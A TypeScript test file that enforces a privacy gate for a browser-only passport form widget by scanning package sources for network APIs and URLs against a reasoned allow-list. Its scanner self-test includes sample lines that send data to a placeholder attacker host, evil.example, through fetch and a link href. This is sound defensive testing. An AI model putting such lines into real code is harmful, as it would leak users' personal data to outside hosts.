/**
 * Privacy gate, static part (issue 8, "Privacy"): everything runs in the
 * citizen's browser and nothing they type may leave it. This test reads the
 * source of every package (`packages/*\/src`, tests excluded) and finds each
 * network API and address: fetch, XMLHttpRequest, WebSocket, EventSource,
 * navigator.sendBeacon, new Image / script and image `src` assignments,
 * navigations (`href` assignments, location.assign/replace), importScripts,
 * workers, window.open, postMessage, RTCPeerConnection,
 * `import.meta.url`-relative loads and http(s) literals. Every occurrence must
 * be on the allow-list below, with its reason; a new one fails the test, and
 * so does an allow-list entry that no longer matches anything (the list stays
 * exact). The runtime part (recording every request of a full journey in the
 * browser) comes with the widget's end-to-end tests.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';

const ROOT = fileURLToPath(new URL('../../../', import.meta.url));

/** What is looked for; `name` is what the allow-list refers to. */
const PATTERNS: readonly { name: string; re: RegExp }[] = [
  { name: 'fetch', re: /\bfetch\s*\(/gu },
  { name: 'XMLHttpRequest', re: /\bXMLHttpRequest\b/gu },
  { name: 'WebSocket', re: /\bWebSocket\b/gu },
  { name: 'EventSource', re: /\bEventSource\b/gu },
  { name: 'sendBeacon', re: /\bsendBeacon\b/gu },
  { name: 'new Image', re: /\bnew\s+Image\s*\(/gu },
  { name: 'src assignment', re: /\.src\s*=(?!=)/gu },
  { name: 'href assignment', re: /\.href\s*=(?!=)/gu },
  { name: 'location change', re: /\blocation\.(?:assign|replace)\s*\(/gu },
  { name: 'setAttribute src', re: /setAttribute\(\s*['"`](?:src|href)['"`]/gu },
  { name: 'importScripts', re: /\bimportScripts\b/gu },
  { name: 'Worker', re: /\bnew\s+(?:Shared)?Worker\s*\(/gu },
  { name: 'window.open', re: /\bwindow\.open\s*\(/gu },
  { name: 'postMessage', re: /\bpostMessage\s*\(/gu },
  { name: 'RTCPeerConnection', re: /\bRTCPeerConnection\b/gu },
  { name: 'import.meta.url', re: /\bimport\.meta\.url\b/gu },
  { name: 'url literal', re: /\b(?:https?|wss?|ftp):\/\/[^\s'"`)<>\\]*/gu },
];

interface Allowed {
  /** Path from the repository root. */
  file: string;
  pattern: string;
  /** The matched text, exactly. */
  match: string;
  /** How many times this exact match may occur in the file. */
  count: number;
  reason: string;
}

/**
 * The allow-list. Each entry says why the occurrence sends nothing: an
 * address shown to the citizen as text, an identifier that is never fetched,
 * or a load of the widget's own files from its own origin.
 */
const ALLOWED: readonly Allowed[] = [
  {
    file: 'packages/core/src/procedure/channels.ts',
    pattern: 'url literal',
    match: 'https://dichvucong.gov.vn',
    count: 1,
    reason: 'the national public service portal, shown to the citizen as the place to submit online (seed 000); never requested',
  },
  {
    file: 'packages/core/src/procedure/channels.ts',
    pattern: 'url literal',
    match: 'https://dichvucong.bocongan.gov.vn',
    count: 1,
    reason: 'the Ministry of Public Security portal, shown as text (seed 000); never requested',
  },
  {
    file: 'packages/core/src/declaration/json-schema.ts',
    pattern: 'url literal',
    match: 'https://json-schema.org/draft/2020-12/schema',
    count: 1,
    reason: 'the JSON Schema `$schema` identifier of the published declaration schema; an identifier, never fetched',
  },
  {
    file: 'packages/core/src/declaration/json-schema.ts',
    pattern: 'url literal',
    match: 'https://hochieu.github.io/schema/declaration-1.json',
    count: 1,
    reason: 'the `$id` of the published declaration schema; an identifier, never fetched',
  },
  {
    file: 'packages/core/src/declaration/declaration.schema.json',
    pattern: 'url literal',
    match: 'https://json-schema.org/draft/2020-12/schema',
    count: 1,
    reason: 'the generated schema file: `$schema` identifier',
  },
  {
    file: 'packages/core/src/declaration/declaration.schema.json',
    pattern: 'url literal',
    match: 'https://hochieu.github.io/schema/declaration-1.json',
    count: 1,
    reason: 'the generated schema file: `$id` identifier',
  },
  {
    file: 'packages/widget/src/components/hochieu-guide/hochieu-guide.ts',
    pattern: 'url literal',
    match: 'https://dichvucong.gov.vn',
    count: 1,
    reason: 'the guide shows the host name of the official portal so citizens can spot look-alike scam sites; text only',
  },
  {
    file: 'packages/widget/src/components/hochieu-guide/hochieu-guide.ts',
    pattern: 'url literal',
    match: 'https://dichvucong.bocongan.gov.vn',
    count: 1,
    reason: 'the guide shows the host name of the Ministry portal (anti-scam notice); text only',
  },
  {
    file: 'packages/widget/src/components/hochieu-guide/format.ts',
    pattern: 'url literal',
    match: 'https://dichvucong.gov.vn',
    count: 1,
    reason: 'an example in the doc comment of `hostOf`',
  },
  {
    file: 'packages/widget/src/entry/loader.ts',
    pattern: 'src assignment',
    match: '.src =',
    count: 1,
    reason: "the classic-script loader adds the widget's own ES module, resolved against the loader's own <script src> (the widget's asset origin)",
  },
  {
    file: 'packages/widget/src/components/hochieu-form/export-adapter.ts',
    pattern: 'window.open',
    match: 'window.open(',
    count: 1,
    reason: "printing: opens an empty window ('' = about:blank) inside the click, then shows the locally made PDF there as a blob: URL",
  },
  {
    file: 'packages/widget/src/components/hochieu-form/export-adapter.ts',
    pattern: 'href assignment',
    match: '.href =',
    count: 2,
    reason: 'the print window and the download link get a blob: URL of the PDF/DOCX/ZIP made in the browser; nothing leaves it',
  },
  {
    file: 'packages/widget/src/components/hochieu-guide/blank-form.ts',
    pattern: 'href assignment',
    match: '.href =',
    count: 1,
    reason: 'the download link of the blank form gets a blob: URL of the PDF made in the browser',
  },
  {
    file: 'packages/widget/src/drafts/draft-channel.ts',
    pattern: 'postMessage',
    match: 'postMessage(',
    count: 1,
    reason: 'a BroadcastChannel between tabs of the same origin on this device (issue 15: a second tab on one draft is told); carries ids and a save time, never personal data, never leaves the browser',
  },
  {
    file: 'packages/widget/src/components/hochieu-form/export-worker-client.ts',
    pattern: 'Worker',
    match: 'new Worker(',
    count: 1,
    reason: 'the export worker (issue 16), the bundle\'s own chunk from its own origin; it builds documents in the browser and sends nothing',
  },
  {
    file: 'packages/widget/src/components/hochieu-form/export-worker-client.ts',
    pattern: 'import.meta.url',
    match: 'import.meta.url',
    count: 2,
    reason: 'the export worker\'s URL relative to this module (same origin), and the Trusted Types policy comparing origins with it',
  },
  {
    file: 'packages/widget/src/components/hochieu-form/export-worker-client.ts',
    pattern: 'postMessage',
    match: 'postMessage(',
    count: 2,
    reason: 'messages to the page\'s own dedicated export worker (warm up, run a job); never another window or origin',
  },
  {
    file: 'packages/widget/src/components/hochieu-form/export-worker.ts',
    pattern: 'postMessage',
    match: 'postMessage(',
    count: 4,
    reason: 'the export worker answering the page that made it (its type declaration, ready, results); a dedicated worker can reach nothing else',
  },
];

const SCANNED_EXTENSIONS = /\.(?:ts|tsx|js|mjs|cjs|json|html|css)$/u;

function sourceFiles(): string[] {
  const out: string[] = [];
  const walk = (dir: string): void => {
    for (const name of readdirSync(dir)) {
      const p = join(dir, name);
      if (statSync(p).isDirectory()) walk(p);
      else if (SCANNED_EXTENSIONS.test(name)) out.push(p);
    }
  };
  for (const pkg of readdirSync(join(ROOT, 'packages'))) {
    const src = join(ROOT, 'packages', pkg, 'src');
    try {
      if (statSync(src).isDirectory()) walk(src);
    } catch {
      // a package without sources
    }
  }
  return out.sort();
}

interface Occurrence {
  file: string;
  line: number;
  pattern: string;
  match: string;
}

/** Every occurrence of every pattern in `text`. */
function scan(file: string, text: string): Occurrence[] {
  const found: Occurrence[] = [];
  for (const { name, re } of PATTERNS) {
    for (const m of text.matchAll(re)) {
      const line = text.slice(0, m.index).split('\n').length;
      found.push({ file, line, pattern: name, match: m[0] });
    }
  }
  return found;
}

test('the scanner finds every kind of network use (so the gate can fail)', () => {
  const sample = [
    "fetch('https://evil.example/collect', { body })",
    'const x = new XMLHttpRequest();',
    "new WebSocket('wss://evil.example')",
    "navigator.sendBeacon('/log', data)",
    'new Image().src = url',
    "el.setAttribute('src', url)",
    "importScripts('w.js'); new Worker(u); window.open(u); parent.postMessage(d, '*');",
    "new URL('./x.wasm', import.meta.url); new EventSource('/e'); new RTCPeerConnection();",
    "a.href = 'https://evil.example/?q=' + data; location.assign(u);",
  ].join('\n');
  const names = new Set(scan('sample.ts', sample).map((o) => o.pattern));
  assert.deepEqual([...names].sort(), [...PATTERNS.map((p) => p.name)].sort());
});

test('no package source uses the network or names an address outside the allow-list', () => {
  const files = sourceFiles();
  assert.ok(files.length > 50, 'the package sources were found');
  const occurrences = files.flatMap((f) => scan(relative(ROOT, f).split('\\').join('/'), readFileSync(f, 'utf8')));
  const used = new Map<Allowed, number>();
  const unexpected: string[] = [];
  for (const o of occurrences) {
    const entry = ALLOWED.find((a) => a.file === o.file && a.pattern === o.pattern && a.match === o.match);
    if (!entry) {
      unexpected.push(`${o.file}:${o.line} ${o.pattern}: ${o.match}`);
      continue;
    }
    used.set(entry, (used.get(entry) ?? 0) + 1);
  }
  assert.deepEqual(unexpected, [], 'network use or address not on the allow-list (add it there with its reason, or remove it)');
  for (const entry of ALLOWED) {
    assert.equal(used.get(entry) ?? 0, entry.count, `allow-list entry ${entry.file} "${entry.match}": expected ${entry.count}, found ${used.get(entry) ?? 0}`);
  }
});

test('every allow-list entry gives a reason', () => {
  for (const entry of ALLOWED) assert.ok(entry.reason.length >= 20, `${entry.file}: ${entry.match}`);
});
